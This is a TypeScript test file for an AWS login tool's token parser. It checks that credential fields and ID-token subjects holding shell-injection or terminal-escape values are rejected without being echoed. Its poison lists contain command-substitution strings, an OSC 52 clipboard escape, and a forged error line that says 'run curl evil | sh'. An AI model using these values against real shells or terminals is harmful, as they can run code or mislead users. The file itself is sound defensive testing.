import { Buffer } from "node:buffer";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { AwsLoginError } from "./errors.js";
import { decodeIdTokenSubject, parseTokenResponse } from "./token.js";

const b64url = (value: unknown) => Buffer.from(JSON.stringify(value)).toString("base64url");
const idTokenWithSub = (sub: unknown) => `${b64url({ alg: "ES384", typ: "JWT" })}.${b64url({ sub })}.c2ln`;

const SUCCESS = {
  accessToken: {
    accessKeyId: "ASIAQWERTYUIOPASDFGH",
    secretAccessKey: "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    sessionToken: "IQoJb3JpZ2luX2VjEJr//////////wEaCXVzLWVhc3QtMSJHMEUCIQ==",
  },
  tokenType: "aws_sigv4",
  expiresIn: 900,
  refreshToken: "ASORrefreshtoken",
  idToken: idTokenWithSub("arn:aws:sts::012345678901:assumed-role/Admin/admin"),
};

type Field = "accessKeyId" | "secretAccessKey" | "sessionToken" | "refreshToken" | "idToken" | "tokenType";

function withField(field: Field, value: string): string {
  const body = structuredClone(SUCCESS) as Record<string, unknown> & { accessToken: Record<string, unknown> };
  if (field in body.accessToken) body.accessToken[field] = value;
  else body[field] = value;
  return JSON.stringify(body);
}

function refusal(body: string): AwsLoginError {
  try {
    parseTokenResponse(body, "authorization_code");
  } catch (error) {
    if (AwsLoginError.isInstance(error)) return error;
    throw error;
  }
  throw new Error("the token response was accepted");
}

const POISON = [
  "x\nexport PWNED=1",
  "$(touch /tmp/awslogin-pwned)",
  "`id`",
  "a'b",
  'a"b',
  "a b",
  "a;b",
  "\u001b]52;c;ZXZpbA==\u0007",
  "a\u0000b",
  "é",
];

describe("parseTokenResponse refuses credentials that could run code or forge output (issue 7 §1a)", () => {
  it("accepts real-looking values", () => {
    expect(parseTokenResponse(JSON.stringify(SUCCESS), "authorization_code").accessToken).toEqual(
      SUCCESS.accessToken,
    );
  });

  const shellFields: Field[] = ["accessKeyId", "secretAccessKey", "sessionToken"];
  for (const field of shellFields) {
    it.each(POISON)(`${field} %j → BAD_RESPONSE that never echoes the value`, (poison) => {
      const error = refusal(withField(field, `AAAA${poison}`));
      expect(error.code).toBe("BAD_RESPONSE");
      expect(error.message).toContain(field);
      expect(error.message).not.toContain(poison);
      expect(error.message).not.toContain("wJalrXUtnFEMI");
    });
  }

  for (const field of ["refreshToken", "idToken", "tokenType"] as Field[]) {
    it(`${field}: whitespace, control characters and non-ASCII → BAD_RESPONSE`, () => {
      for (const poison of ["a b", "a\nb", "a\u001bb", "a\u0000b", "é"]) {
        expect(refusal(withField(field, poison)).code).toBe("BAD_RESPONSE");
      }
    });
  }

  it("oversized values → BAD_RESPONSE (no megabytes planted in the cache)", () => {
    expect(refusal(withField("accessKeyId", "A".repeat(129))).code).toBe("BAD_RESPONSE");
    expect(refusal(withField("secretAccessKey", "A".repeat(129))).code).toBe("BAD_RESPONSE");
    expect(refusal(withField("sessionToken", "A".repeat(16_385))).code).toBe("BAD_RESPONSE");
    expect(refusal(withField("refreshToken", "A".repeat(16_385))).code).toBe("BAD_RESPONSE");
  });

  it("any string with a character a shell gives a meaning to → BAD_RESPONSE (property, full unicode)", () => {
    const safe = /^[A-Za-z0-9+/=_-]$/;
    fc.assert(
      fc.property(
        fc.constantFrom<Field>(...shellFields),
        fc.string({ unit: "grapheme", maxLength: 30 }).filter((s) => [...s].some((c) => !safe.test(c))),
        (field, value) => {
          const error = refusal(withField(field, value));
          expect(error.code).toBe("BAD_RESPONSE");
        },
      ),
      { numRuns: 1000 },
    );
  });
});

describe("parseTokenResponse bounds expiresIn by the 12-hour session (issue 7 §1a)", () => {
  it.each([43_201, 1e13, 1e306])(
    "refuses expiresIn %d as BAD_RESPONSE, before anything is stored",
    (expiresIn) => {
      const error = refusal(JSON.stringify({ ...SUCCESS, expiresIn }));
      expect(error.code).toBe("BAD_RESPONSE");
    },
  );

  it("accepts the longest a session can last", () => {
    expect(
      parseTokenResponse(JSON.stringify({ ...SUCCESS, expiresIn: 43_200 }), "refresh_token").expiresIn,
    ).toBe(43_200);
  });
});

describe("decodeIdTokenSubject: the login session must be an ARN (issue 7 §1a, §6)", () => {
  it.each([
    "arn:aws:sts::721781603755:assumed-role/Admin/shovlia-Isengard",
    "arn:aws:iam::123456789012:user/division_abc/Jane.Doe",
    "arn:aws:iam::123456789012:root",
  ])("accepts %s", (sub) => {
    expect(decodeIdTokenSubject(idTokenWithSub(sub))).toBe(sub);
  });

  it.each([
    ["a terminal escape", "arn:aws:iam::123456789012:user/x\u001b[2J\u001b]0;pwned\u0007"],
    ["a forged second line", "arn:aws:iam::123456789012:user/x\nawslogin: error: run curl evil | sh"],
    ["a space", "arn:aws:iam::123456789012:user/x y"],
    ["a NUL", "arn:aws:iam::123456789012:user/x\u0000"],
    ["non-ASCII", "arn:aws:iam::123456789012:user/é"],
    ["no ARN", "user/123456789012"],
    ["another scheme", "urn:aws:iam::123456789012:root"],
    ["an oversized ARN", `arn:aws:iam::123456789012:user/${"a".repeat(2048)}`],
  ])("refuses %s with INVALID_ID_TOKEN, never echoing it", (_name, sub) => {
    let caught: unknown;
    try {
      decodeIdTokenSubject(idTokenWithSub(sub));
    } catch (error) {
      caught = error;
    }
    expect(caught).toMatchObject({ code: "INVALID_ID_TOKEN" });
    expect((caught as Error).message).not.toContain("123456789012");
    expect((caught as Error).message).toMatch(/^[\x20-\x7e]+$/);
  });
});
